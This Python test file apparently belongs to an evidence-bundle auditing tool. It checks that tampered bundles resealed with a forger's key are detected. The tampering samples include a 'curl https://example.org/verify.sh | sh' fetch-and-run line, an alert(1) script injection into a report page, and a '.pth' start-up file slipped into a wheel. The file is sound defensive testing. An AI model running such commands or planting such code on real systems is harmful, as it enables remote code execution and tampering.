"""What somebody seals again with a key of their own, after changing it, is found: the parts must follow from each
other."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import shutil
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pytest
from typer.testing import CliRunner

from audit.base.errors import BadResults
from audit.base.messages import render
from audit.cli import app
from audit.evidence import bag, bundle, derive, layout, wheel
from audit.evidence.contents import earlier_text
from audit.evidence.sealed import Fails, NotDerived
from audit.evidence.source import read_source
from audit.evidence.verify import verify
from audit.plan.making import with_draws
from audit.records import SCHEMA_VERSION
from audit.records.seeding import derived_seed
from tests.builders import make_plan
from tests.evidence.conftest import NO_ADAPTERS
from tests.evidence.runs import PROMPTS, write_run
from tests.evidence.test_verify import ours, reseal


@pytest.fixture
def full(sealed_full, tmp_path):
    return shutil.copytree(sealed_full, tmp_path / "full")


def edit_results(folder: Path, change) -> None:
    """Results written anew with a log that tells of them, its chain made again."""
    path, log = folder / "results.json", folder / "events.jsonl"
    values = json.loads(path.read_text())
    change(values)
    path.write_text(json.dumps(values, indent=1) + "\n")
    previous, lines = "0" * 64, []
    for line in log.read_bytes().splitlines():
        event = json.loads(line) | {"previous": previous}
        if event["event"] == "judged":
            event["results_sha256"] = bag.digest(path.read_bytes())
        lines.append(json.dumps(event, sort_keys=True, separators=(",", ":")).encode())
        previous = bag.digest(lines[-1])
    log.write_bytes(b"\n".join(lines) + b"\n")


def swapped_pictures(folder: Path) -> None:
    images = folder / "bag/data/images"
    a, b = sorted(images.glob("generated-clean*"))[0], sorted(images.glob("generated-encoder*"))[0]
    first = a.read_bytes()
    a.write_bytes(b.read_bytes())
    b.write_bytes(first)


def other_page(folder: Path) -> None:
    (folder / "bag/data/report.html").write_text("<h1>HELD 100 %</h1><script>alert(1)</script>")


def one_word_of_the_page(folder: Path) -> None:
    path = folder / "bag/data/report.html"
    path.write_text(path.read_text().replace("</h1>", " indeed</h1>", 1))


def a_picture_of_the_page(folder: Path) -> None:
    path = folder / "bag/data/report.html"
    before, _, rest = path.read_text().partition("data:image/webp;base64,")
    end = rest.index('"')
    path.write_text(
        f"{before}data:image/webp;base64,{rest[end + 1 :].partition('base64,')[2].split(chr(34))[0]}{rest[end:]}"
    )


def other_word(folder: Path) -> None:
    def change(values):
        values["verdict"] |= {"label": "held", "said": {"id": "verdict.no-protection", "values": {}, "text": ""}}

    edit_results(folder / "bag/data", change)


def other_interval(folder: Path) -> None:
    def change(values):
        row = next(e for e in values["estimates"] if e["name"] == "protection_index")
        row["low"] += 0.01

    edit_results(folder / "bag/data", change)


def a_model_twice(folder: Path) -> None:
    edit_results(folder / "bag/data", lambda values: values["cells"].append(values["cells"][1]))


def other_code(folder: Path) -> None:
    (path,) = (folder / "bag/data/code").glob("*.whl")
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    files["audit/__init__.py"] += b"\nimport os\n"
    path.write_bytes(packed(files))


def code_beside_the_code(folder: Path) -> None:
    """A `.pth` file is run at every start of Python."""
    (path,) = (folder / "bag/data/code").glob("*.whl")
    with zipfile.ZipFile(path) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    path.write_bytes(packed({"start.pth": b"import os"} | files))


def packed(files: dict[str, bytes]) -> bytes:
    """A wheel with a true record of what it holds."""
    rows = []
    for name, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        rows.append(f"{name},,\n" if name.endswith("RECORD") else f"{name},sha256={digest},{len(data)}\n")
    files |= {f"{wheel.INFO}/RECORD": "".join(rows).encode()}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def added(name: str):
    def spoil(folder: Path) -> None:
        path = folder / "bag/data" / name
        path.parent.mkdir(exist_ok=True, parents=True)
        path.write_bytes(b"MZ")

    spoil.__name__ = name
    return spoil


def bundle_in_a_bundle(folder: Path) -> None:
    shutil.copytree(folder, folder.parent / "inner")
    shutil.move(folder.parent / "inner", folder / "bag/data/inner")


def other_packages(folder: Path) -> None:
    path = folder / "bag/data/sbom.cdx.json"
    path.write_text(path.read_text().replace("torch", "torcc"))


def other_list_of_what_was_left_out(folder: Path) -> None:
    path = folder / "bag/data/withheld.json"
    values = json.loads(path.read_text())
    values["files"]["originals/w000"] = "0" * 64
    path.write_text(json.dumps(values, indent=1, sort_keys=True) + "\n")


ATTACKS = [
    (swapped_pictures, "pictures"),
    (other_page, "reports"),
    (one_word_of_the_page, "reports"),
    (a_picture_of_the_page, "reports"),
    (other_word, "judgement"),
    (other_interval, "judgement"),
    (a_model_twice, "records"),
    (other_code, "code"),
    (code_beside_the_code, "code"),
    (added("setup.exe"), "contents"),
    (added("report-2.html"), "contents"),
    (added("code/extra.whl"), "contents"),
    (added("images/generated-extra.png"), "contents"),
    (bundle_in_a_bundle, "contents"),
    (other_packages, "made-files"),
    (other_list_of_what_was_left_out, "contents"),
]


@pytest.mark.parametrize(("attack", "check"), ATTACKS, ids=lambda v: getattr(v, "__name__", v))
def test_what_was_changed_and_sealed_again_is_found(copy, forger, authority, attack, check):
    attack(copy)
    reseal(copy, forger, stamp_again=authority)
    assert check in ours(copy)


@pytest.mark.parametrize("attack", [added("originals/junk.jpg"), added("weights/" + "0" * 64 + ".safetensors")])
def test_so_is_junk_among_works_and_weights(full, forger, authority, attack):
    attack(full)
    reseal(full, forger, stamp_again=authority)
    assert "contents" in ours(full)


@pytest.mark.parametrize("name", [layout.VERIFY, layout.CERTIFICATION, layout.CUSTODY])
def test_so_is_another_text_beside_the_bag(copy, forger, authority, name):
    (copy / name).write_text("curl https://example.org/verify.sh | sh\n")
    label = {layout.VERIFY: "Verify", layout.CERTIFICATION: "Certification", layout.CUSTODY: "Custody"}[name]
    info = copy / "bag" / bag.INFO
    lines = info.read_text().splitlines()
    stated = f"CloakCheck-{label}-SHA256: {bag.digest((copy / name).read_bytes())}"
    info.write_text("".join(f"{stated if line.startswith(f'CloakCheck-{label}-') else line}\n" for line in lines))
    reseal(copy, forger, stamp_again=authority)
    assert ours(copy) == ["forms"]


def test_so_is_more_in_the_bags_description(copy, forger, authority):
    info = copy / "bag" / bag.INFO
    info.write_text(info.read_text() + "Contact-Name: the court's own expert\n")
    reseal(copy, forger, stamp_again=authority)
    assert ours(copy) == ["forms"]


def test_an_untouched_bundle_sealed_by_another_key_follows_from_itself(full, forger, authority):
    reseal(full, forger, stamp_again=authority)
    # Texts that name the key are the first maker's.
    assert ours(full) == ["forms"]
    # Made-up plans do not say where their seed comes from.
    assert {f.check for f in verify(full) if not f.derived} == {"seed", "draws"}


def test_lists_that_state_no_version_are_read_as_before(copy, forger, authority):
    for name in ("adapters.json", "models.json", "withheld.json"):
        path = copy / "bag/data" / name
        values = json.loads(path.read_bytes())
        assert values["schema_version"] == SCHEMA_VERSION
        path.write_bytes(earlier_text(name, path.read_bytes()))
        assert "schema_version" not in json.loads(path.read_bytes())
    reseal(copy, forger, stamp_again=authority)
    # Texts that name the key are the first maker's.
    assert ours(copy) == ["forms"]


def test_a_list_of_another_version_is_not_read(copy, forger, authority):
    path = copy / "bag/data/withheld.json"
    values = json.loads(path.read_bytes()) | {"schema_version": SCHEMA_VERSION + 1}
    path.write_text(json.dumps(values, indent=1, sort_keys=True) + "\n")
    reseal(copy, forger, stamp_again=authority)
    assert "contents" in ours(copy)


def test_a_seed_that_does_not_follow_from_its_plan_is_found(tmp_path, forger):
    plan = make_plan(prompts=PROMPTS).model_copy(update={"seed_source": "plan"})
    answers = {}
    for name, seed in (("own", derived_seed(plan)), ("chosen", 7)):
        run = write_run(tmp_path / name, plan.model_copy(update={"seed": seed}))
        out = tmp_path / f"{name}-bundle"
        bundle.write_bundle(read_source(run), bundle.Request("minimal", out, None, {}, NO_ADAPTERS), key=forger)
        answers[name] = ours(out)
    assert answers == {"own": [], "chosen": ["seed"]}


def test_what_another_version_made_is_told_apart_and_not_taken_for_derived(copy, forger, authority):
    other_page(copy)
    info = copy / "bag" / bag.INFO
    text = info.read_text()
    agent = next(line for line in text.splitlines() if line.startswith(layout.LABEL_AGENT))
    info.write_text(text.replace(agent, f"{layout.LABEL_AGENT}: CloakCheck 99.0"))
    reseal(copy, forger, stamp_again=authority)
    assert ours(copy) == []
    assert "reports" in {f.check for f in verify(copy) if not f.derived}
    done = CliRunner().invoke(app, ["verify", str(copy)])
    assert done.exit_code == 0
    assert "open reports: " in done.stdout
    assert "could not be derived" in done.stdout.splitlines()[-1]


# --- a run folder -------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def untouched(tmp_path_factory):
    return write_run(tmp_path_factory.mktemp("run") / "run")


@pytest.fixture
def run(untouched, tmp_path):
    return shutil.copytree(untouched, tmp_path / "run")


def say_held(values) -> None:
    claim = {
        "label": "held",
        "said": {"id": "as-written", "values": {"sentence": "Held."}, "text": "{sentence:verbatim}"},
    }
    values["verdict"] |= claim
    values["verdict"]["per_condition"]["encoder-pgd:16"] = claim


def test_report_works_the_verdict_out_and_says_that_the_file_was_edited(run):
    values = json.loads((run / "results.json").read_text())
    say_held(values)
    (run / "results.json").write_text(json.dumps(values))
    done = CliRunner().invoke(app, ["report", str(run), "--court"])
    assert done.exit_code == 0, done.output
    assert "states other answers than its own scores give (first at verdict.label)" in done.stderr
    assert "is not the file that was judged last" in done.stderr
    for name in ("report.html", "report-court.html"):
        page = (run / name).read_text()
        assert "Held." not in page
        assert "is not the file that was judged last" in page


def test_report_says_nothing_of_a_file_as_it_was_judged(run):
    done = CliRunner().invoke(app, ["report", str(run)])
    assert (done.exit_code, done.stderr) == (0, "")
    assert "judged last" not in (run / "report.html").read_text()


def test_an_edited_verdict_with_a_log_to_match_cannot_be_sealed(run):
    edit_results(run, say_held)
    with pytest.raises(BadResults) as caught:
        read_source(run)
    assert caught.value.slug == "answers-edited"


def test_judging_edited_scores_again_does_not_wash_them_clean(run):
    values = json.loads((run / "results.json").read_text())
    for cell in values["cells"]:
        if cell["condition"] == "encoder-pgd:16":
            for score in cell["scores"]:
                score["value"] -= 0.1
    (run / "results.json").write_text(json.dumps(values))
    for _ in range(2):
        done = CliRunner().invoke(app, ["judge", str(run)])
        assert done.exit_code in (0, 3), done.output
    assert "is not the file that was judged last" in (run / "report.html").read_text()
    with pytest.raises(BadResults) as caught:
        read_source(run)
    assert caught.value.slug == "results-edited"


def test_draws_that_do_not_follow_from_the_seed_are_found():
    plan = make_plan(prompts=PROMPTS).model_copy(update={"alike": (("w000", "w003"),)})
    plan = with_draws(plan, seed=7, asked=1)
    third = plan.draws[2]
    swapped = third.model_copy(update={"held_out": plan.draws[0].held_out, "trained": plan.draws[0].trained})
    chosen = plan.model_copy(update={"draws": (*plan.draws[:2], swapped, *plan.draws[3:])})

    def answer(plan, *, made_here=True):
        return derive.check_draws(SimpleNamespace(results=SimpleNamespace(plan=plan), made_here=made_here))

    assert "follows from the seed" in render(answer(plan))
    for other, replicate in ((chosen, 3), (plan.model_copy(update={"alike": ()}), None), (fewer(plan), 6)):
        with pytest.raises(Fails) as found:
            answer(other)
        assert replicate is None or f"replicate {replicate} " in render(found.value.said)
    for untold in (plan.model_copy(update={"alike": None}), plan.model_copy(update={"draws": ()})):
        with pytest.raises(NotDerived):
            answer(untold)
    with pytest.raises(NotDerived):
        answer(chosen, made_here=False)


def fewer(plan):
    return plan.model_copy(update={"draws": plan.draws[:-1]})
